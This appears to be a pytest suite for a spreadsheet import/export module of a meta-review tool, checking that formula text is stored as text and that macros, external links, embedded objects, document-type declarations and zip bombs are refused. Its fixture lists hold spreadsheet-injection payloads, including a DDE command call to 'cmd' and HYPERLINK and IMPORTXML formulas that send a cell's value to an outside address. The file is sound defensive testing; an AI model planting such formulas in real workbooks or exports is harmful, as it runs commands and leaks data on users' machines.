"""A workbook from somebody else is opened only when it can do no harm, and read for what was meant."""

import io
import zipfile
from datetime import date, datetime, time

import pytest
from openpyxl import load_workbook

from metareview import archives
from metareview.errors import MetareviewError
from metareview.extraction import workbook, workbook_reading
from metareview.extraction.columns import SHEETS
from metareview.extraction.grids import Grid
from metareview.extraction.workbook import workbook_bytes
from metareview.extraction.workbook_reading import read_workbook
from metareview.protocol import parse_protocol, starter_text

PLAN = parse_protocol(starter_text("x"), "x.toml")


def grids(**filled):
    return {name: Grid(kind, kind.names, tuple(filled.get(name, ()))) for name, kind in SHEETS.items()}


FILLED = grids(
    studies=[{"study": "A", "label": "Alpha 2001", "note": "=cmd|' /C calc'!A0"}],
    arms=[{"study": "A", "arm": "drug", "role": "drug"}],
    results=[{"row": "r1", "study": "A", "outcome": "death", "arm": "drug", "n": "10", "quote": "3-4"}],
)


@pytest.fixture
def book(tmp_path):
    path = tmp_path / "book.xlsx"
    path.write_bytes(workbook_bytes(FILLED, PLAN))
    return path


def refused(path, match):
    before = path.read_bytes()
    with pytest.raises(MetareviewError, match=match) as caught:
        read_workbook(path)
    assert path.read_bytes() == before
    return caught.value.problems


def repack(path, **changed):
    """Write an archive again with some members changed or added."""
    with zipfile.ZipFile(path) as old:
        members = {info.filename: old.read(info) for info in old.infolist()}
    members |= {name.replace("__", "/"): data for name, data in changed.items()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for name, data in members.items():
            new.writestr(name, data)


def put(path, tab, cell, value, number_format=None):
    opened = load_workbook(path)
    opened[tab][cell] = value
    if number_format:
        opened[tab][cell].number_format = number_format
    opened.save(path)


def test_a_workbook_reads_back_as_it_was_written(book):
    brought = read_workbook(book)
    for name, grid in FILLED.items():
        for side in (brought.grids, brought.base):
            assert [{k: v for k, v in row.items() if v} for row in side[name].rows] == list(grid.rows)


def test_text_that_looks_like_a_formula_is_text(book):
    opened = load_workbook(book)
    assert opened["studies"]["I2"].data_type == "s"


@pytest.mark.parametrize(
    ("value", "number_format", "said"),
    [
        (
            datetime(2024, 4, 3),
            "d-mmm",
            'n is "2024-04-03 00:00:00"; a spreadsheet made a date or time of it',
        ),
        (date(2024, 4, 3), "d-mmm", "a spreadsheet made a date"),
        (time(3, 4), "h:mm", "a spreadsheet made a date or time"),
        ("=1+1", None, "it is a formula"),
        ("#N/A", None, "error message"),
        (True, None, "made true or false of it"),
        (0.125, "0.0%", "it is shown as a percentage"),
    ],
)
def test_what_a_spreadsheet_made_of_a_number_is_refused(book, value, number_format, said):
    put(book, "results", "G2", value, number_format)
    (problem,) = refused(book, "cell G2")
    assert said in problem


def test_every_such_cell_is_named_at_once(book):
    put(book, "results", "G2", "=1")
    put(book, "results", "H2", datetime(2024, 4, 3))
    assert len(refused(book, "formula")) == 2


def test_a_percentage_in_the_column_of_percentages_is_read_as_shown(book):
    put(book, "results", "S2", 0.583, "0.0%")
    assert read_workbook(book).grids["results"].rows[0]["percent"] == "58.3"


def test_numbers_and_dates_are_read_as_they_were_typed(book):
    put(book, "results", "G2", 12)
    put(book, "results", "I2", 0.1 + 0.2)
    put(book, "results", "AG2", datetime(2026, 11, 24), "yyyy-mm-dd")
    row = read_workbook(book).grids["results"].rows[0]
    assert (row["n"], row["mean"], row["date"]) == ("12", "0.3", "2026-11-24")


def test_macros_links_and_embedded_files_are_refused(book):
    for member, said in [
        ("xl__vbaProject.bin", "macros"),
        ("xl__externalLinks__externalLink1.xml", "linked to other files"),
        ("xl__embeddings__oleObject1.bin", "embedded files"),
        ("xl__activeX__activeX1.xml", "run code"),
        ("xl__connections.xml", "outside data"),
    ]:
        book.write_bytes(workbook_bytes(FILLED, PLAN))
        repack(book, **{member: b"x"})
        refused(book, said)


@pytest.mark.parametrize("codec", ["utf-8", "utf-16-le"])
def test_a_document_type_is_refused(book, codec):
    bomb = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'
    repack(book, xl__sharedStrings__extra=bomb.encode(codec))
    refused(book, "declares a document type")


def test_a_document_type_across_two_pieces_is_seen(book, monkeypatch):
    monkeypatch.setattr(archives, "_CHUNK", 7)
    repack(book, xl__extra=b"x" * 5 + b"<!DOCTYPE y>")
    refused(book, "declares a document type")


def test_a_zip_bomb_is_refused_whatever_size_it_declares(book, monkeypatch):
    monkeypatch.setattr(workbook_reading, "EXTRACTION", archives.Bounds(4 * 2**20, 100_000, active=False))
    repack(book, xl__extra=b"0" * (4 * 2**20 + 1))
    assert book.stat().st_size < 100_000
    refused(book, "unpacks to more than 4 MiB")


def test_too_many_parts_are_refused(book):
    repack(book, **{f"xl__p{n}": b"" for n in range(archives.MAX_MEMBERS + 1)})
    refused(book, "more than any workbook")


def test_other_files_are_refused(tmp_path, book):
    path = tmp_path / "x.xlsx"
    path.write_bytes(b"row,study\n")
    refused(path, "damaged, or not an .xlsx file")
    path.write_bytes(b"")
    refused(path, "damaged, or not an .xlsx file")
    with zipfile.ZipFile(path, "w") as plain:
        plain.writestr("a.txt", "a")
    refused(path, "not a workbook")
    path.write_bytes(book.read_bytes()[:-300])
    refused(path, "damaged")


def test_a_missing_file_and_a_folder_are_refused(tmp_path):
    for path, said in ((tmp_path / "none.xlsx", "does not exist"), (tmp_path, "is a folder")):
        with pytest.raises(MetareviewError, match=said):
            read_workbook(path)


def test_a_workbook_of_another_kind_is_refused(tmp_path):
    from openpyxl import Workbook

    Workbook().save(tmp_path / "x.xlsx")
    assert len(refused(tmp_path / "x.xlsx", 'has no tab "studies"')) == 5


def test_a_column_that_is_gone_or_unknown_is_named(book):
    put(book, "results", "G1", "number")
    said = " ".join(refused(book, "not known"))
    assert 'the column "number" is not known' in said


def test_a_lost_copy_of_what_was_sent_is_named(book):
    opened = load_workbook(book)
    del opened["sent results"]
    opened.save(book)
    refused(book, "has lost the hidden copy of results")


def test_long_lists_of_allowed_words_get_a_tab_of_their_own():
    text = starter_text("x") + "".join(
        f'\n[[outcomes]]\nid = "outcome-number-{n}"\nlabel = "x"\nkind = "binary"\n' for n in range(40)
    )
    opened = load_workbook(io.BytesIO(workbook_bytes(FILLED, parse_protocol(text, "x.toml"))))
    sources = [v.formula1 for v in opened["results"].data_validations.dataValidation]
    assert any("lists" in source for source in sources)
    assert opened["lists"]["A42"].value == "outcome-number-39"


FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", '=HYPERLINK("http://a/?x="&A1,"x")', "{=1+1}",
    "=IMPORTXML(CONCAT(\"http://a/\",A1),\"//a\")", "-2+3+cmd|' /C calc'!A0", "@x", "=", "+", "'=1+1", "''=1",
    "http://example.org/", "mailto:a@example.org", "internal:Sheet1!A1", "#REF!", "#N/A", "TRUE", "1e5",
    "007", "3-4", "12.50", "-2.5", "_x000D_", "_x0041_", "<b>&amp;</b>", "a\nb", "a\tb",
)  # fmt: skip
ADDED = ("=own", "@mine", "http://own", "own_note")


def hostile():
    """Give sheets with every text in a cell of its own, and in headers that reviewers added."""
    kind = SHEETS["studies"]
    rows = tuple({"study": f"S{n}", "label": text, ADDED[0]: text} for n, text in enumerate(FORMULAS))
    made = grids(studies=[{"study": text} for text in FORMULAS])
    return made | {"studies": Grid(kind, (*kind.names, *ADDED), rows)}


def test_every_text_is_a_string_in_the_workbook_and_reads_back_as_it_was(tmp_path):
    path = tmp_path / "x.xlsx"
    path.write_bytes(workbook_bytes(hostile(), PLAN))
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if "/worksheets/" in name]
        assert not [
            s for s in sheets if b"<f>" in s or b"<hyperlink" in s or b't="e"' in s or b't="str"' in s
        ]
        assert not [name for name in archive.namelist() if "externalLink" in name]
    brought = read_workbook(path)
    for side in (brought.grids, brought.base):
        assert side["studies"].columns == hostile()["studies"].columns
        found = [(row["study"], row["label"], row["=own"]) for row in side["studies"].rows]
        assert found == [(f"S{n}", text, text) for n, text in enumerate(FORMULAS)]


def test_what_a_workbook_would_cut_off_is_refused_all_of_it_at_once(monkeypatch):
    long, signs = "a" * 32_767, "😀" * 16_384  # a spreadsheet counts such a sign twice
    filled = grids(
        studies=[{"study": "A", "label": signs[:-1], "note": long}],
        results=[{"row": "r1", "quote": signs}, {"row": "r2", "quote": long[:-1]}],
    )
    with pytest.raises(MetareviewError) as caught:
        workbook_bytes(filled, PLAN)
    first, second = caught.value.problems
    said = "32,767 characters; a cell of a workbook holds 32,766"
    assert first.startswith(f'studies.csv, row "A", column note: {said}')
    assert second.startswith('results.csv, row "r1", column quote: 32,768 characters')
    monkeypatch.setattr(workbook, "_ROW_LIMIT", 202)
    with pytest.raises(MetareviewError, match=r"results.csv has 2 rows .* a workbook holds 1 rows"):
        workbook_bytes(grids(results=[{"row": "r1"}, {"row": "r2"}]), PLAN)


def test_text_that_a_spreadsheet_would_run_is_marked_as_text(tmp_path):
    path = tmp_path / "x.xlsx"
    path.write_bytes(workbook_bytes(hostile(), PLAN))
    opened = load_workbook(path)
    for tab in ("studies", "sent studies"):
        heads = {cell.value: cell for cell in opened[tab][1]}
        assert [bool(heads[name].quotePrefix) for name in ADDED] == [True, True, False, False]
        label = heads["label"].column - 1
        cells = [row[label] for row in opened[tab].iter_rows(min_row=2)]
        assert {cell.value for cell in cells if cell.quotePrefix} == {
            text for text in FORMULAS if text.lstrip("'")[:1] in ("=", "+", "-", "@") and text != "-2.5"
        }
